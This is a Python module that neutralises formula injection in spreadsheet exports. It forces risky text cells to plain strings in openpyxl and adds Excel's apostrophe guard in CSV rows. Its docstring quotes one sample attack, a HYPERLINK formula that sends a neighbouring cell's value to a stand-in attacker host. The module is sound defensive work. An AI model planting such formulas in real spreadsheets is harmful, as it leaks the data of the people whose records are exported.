"""Rows for spreadsheets (.xlsx and .csv) in which text from outside stays text.

Excel, WPS and LibreOffice run a cell that begins with ``=``, ``+``, ``-`` or
``@`` (also after spaces, or led by a tab or a line break) as a formula:
``=HYPERLINK("http://evil.example/?x="&A3,"点击查看")`` typed by a resident
would become a live link in a worker's sheet.  Every export writes its rows
through ``append_row`` (openpyxl) or ``csv_row`` (the csv module), never with
``sheet.append`` or ``writer.writerow`` directly.  Numbers and dates the
service computes stay numbers and dates; only text is touched.

Lives beside the tables (like ``models.privacy``) so that every layer that
writes a sheet (surveys, handlers, bot) can use it without importing a layer
above it.  openpyxl is imported only when a cell needs it.
"""
from __future__ import annotations

import re
from typing import Any, Iterable

FORMULA_LEADS = frozenset("=+-@＝＋－＠")  # full-width forms too: some IMEs type them
CONTROL_LEADS = frozenset("\t\r\n")
# Characters XML 1.0 forbids (openpyxl raises on them): dropped, the rest of the text kept.
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
ERROR_CODES = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
CSV_GUARD = "'"  # what Excel itself puts before text that would otherwise be a formula


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula (or a DDE command)."""
    if not text:
        return False
    if text[0] in CONTROL_LEADS:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_LEADS


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append one row to an openpyxl worksheet (normal or write-only), text as text."""
    sheet.append([xlsx_value(sheet, value) for value in values])


def xlsx_value(sheet: Any, value: Any) -> Any:
    """``value`` as openpyxl should get it: text that it would type otherwise becomes a string cell."""
    if not isinstance(value, str):
        return value
    text = ILLEGAL.sub("", value)
    if not looks_like_formula(text) and text not in ERROR_CODES:
        return text
    from openpyxl.cell.cell import Cell

    cell = Cell(sheet, row=1, column=1)  # append() moves it to its place
    cell.value = text
    cell.data_type = "s"  # a string, whatever it begins with
    cell.quotePrefix = True  # and Excel keeps it text when someone edits the cell
    return cell


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One row for ``csv.writer``: text a spreadsheet would run gets Excel's apostrophe in front."""
    return [CSV_GUARD + value if isinstance(value, str) and _needs_guard(value) else value for value in values]


def _needs_guard(text: str) -> bool:
    # Apostrophes already in front ("'=…") are kept by one more, so that from_csv_text gives the text back whole.
    return looks_like_formula(text.lstrip(CSV_GUARD))


def from_csv_text(text: str) -> str:
    """Undo ``csv_row``'s apostrophe when our own export is imported again."""
    return text[1:] if text.startswith(CSV_GUARD) and _needs_guard(text) else text
